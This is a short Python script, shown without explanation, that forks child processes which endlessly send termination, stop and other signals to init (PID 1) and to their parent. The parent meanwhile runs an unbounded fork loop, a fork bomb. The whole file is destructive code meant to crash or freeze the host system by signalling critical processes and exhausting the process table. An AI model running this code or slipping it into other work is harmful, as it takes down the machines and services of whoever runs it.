import os
import signal

for _ in range(12):
    if os.fork() == 0:
        while True:
            for number in (signal.SIGCHLD, signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGRTMIN):
                for process in (1, os.getppid()):
                    try:
                        os.kill(process, number)
                    except OSError:
                        pass
while True:
    try:
        if os.fork() == 0:
            os._exit(0)
    except OSError:
        pass
